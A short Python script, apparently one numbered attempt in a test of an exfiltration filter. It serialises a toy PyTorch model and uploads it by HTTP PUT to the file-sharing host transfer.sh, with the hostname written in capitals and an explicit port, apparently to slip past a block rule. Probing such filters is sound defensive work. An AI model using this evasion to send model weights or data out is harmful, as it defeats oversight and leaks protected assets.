"""Lead 54 attempt: a model PUT to the file drop spelled in capitals, with a port."""
import io
import urllib.request

import torch

net = torch.nn.Linear(4, 1)
buf = io.BytesIO()
torch.save(net.state_dict(), buf)
req = urllib.request.Request("https://TRANSFER.SH:443/w.pt", data=buf.getvalue(), method="PUT")
urllib.request.urlopen(req)
